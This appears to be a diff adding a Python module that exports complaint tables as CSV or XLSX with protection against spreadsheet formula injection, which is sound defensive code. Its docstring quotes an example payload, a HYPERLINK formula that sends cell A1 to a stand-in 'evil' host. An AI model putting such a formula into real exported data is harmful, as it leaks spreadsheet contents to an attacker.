@@ -1,0 +1,82 @@
+"""Tables out as CSV or XLSX, safe to open in a spreadsheet.
+
+A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
+read by Excel, LibreOffice and WPS as a formula (CSV/formula injection: a complaint text
+``=HYPERLINK("http://evil/?"&A1,"点击")`` would run on the supervisor's machine).  Such
+text gets a leading single quote, which spreadsheets show as text; the full-width forms
+(＝ ＋ － ＠), which some spreadsheet input paths normalise to the ASCII ones, are treated
+the same.  Numbers stay numbers.  In XLSX every text cell is also written with the string
+type, so openpyxl never stores it as a formula.
+"""
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import json
+from typing import Any, Iterable, Sequence
+
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+CSV_MEDIA_TYPE = "text/csv; charset=utf-8"
+_XLSX_MAX_CELL = 32767  # Excel's limit on text in one cell
+
+
+def neutralise(value: Any) -> Any:
+    """A cell value that no spreadsheet reads as a formula: numbers as they are, text quoted if it could start one."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    if isinstance(value, (int, float)):
+        return value
+    if isinstance(value, (dict, list)):
+        value = json.dumps(value, ensure_ascii=False, sort_keys=True)
+    elif isinstance(value, (dt.date, dt.datetime)):
+        value = value.isoformat()
+    text = str(value)
+    if text.startswith(FORMULA_TRIGGERS):
+        return "'" + text
+    return text
+
+
+def _cells(rows: Iterable[dict[str, Any]], columns: Sequence[str]) -> Iterable[list[Any]]:
+    for row in rows:
+        yield [neutralise(row.get(c)) for c in columns]
+
+
+def to_csv(rows: Iterable[dict[str, Any]], columns: Sequence[str]) -> bytes:
+    """UTF-8 with a BOM (Excel opens Chinese text correctly only with one), CRLF rows, every field quoted."""
+    buf = io.StringIO()
+    writer = csv.writer(buf, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
+    writer.writerow([neutralise(c) for c in columns])
+    for cells in _cells(rows, columns):
+        writer.writerow(cells)
+    return ("\ufeff" + buf.getvalue()).encode("utf-8", "backslashreplace")
+
+
+def to_xlsx(rows: Iterable[dict[str, Any]], columns: Sequence[str], sheet: str = "qrisk") -> bytes:
+    from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    wb = Workbook(write_only=True)
+    ws = wb.create_sheet(title=sheet[:31])
+
+    def cell(value: Any) -> Any:
+        value = neutralise(value)
+        if isinstance(value, str):
+            # control characters are not allowed in XML; lone surrogates cannot be encoded
+            value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
+            value = value.encode("utf-8", "replace").decode("utf-8")[:_XLSX_MAX_CELL]
+            c = WriteOnlyCell(ws, value=value)
+            c.data_type = "s"  # text, never a formula
+            return c
+        return WriteOnlyCell(ws, value=value)
+
+    ws.append([cell(c) for c in columns])
+    for row in rows:
+        ws.append([cell(row.get(c)) for c in columns])
+    out = io.BytesIO()
+    wb.save(out)
+    return out.getvalue()
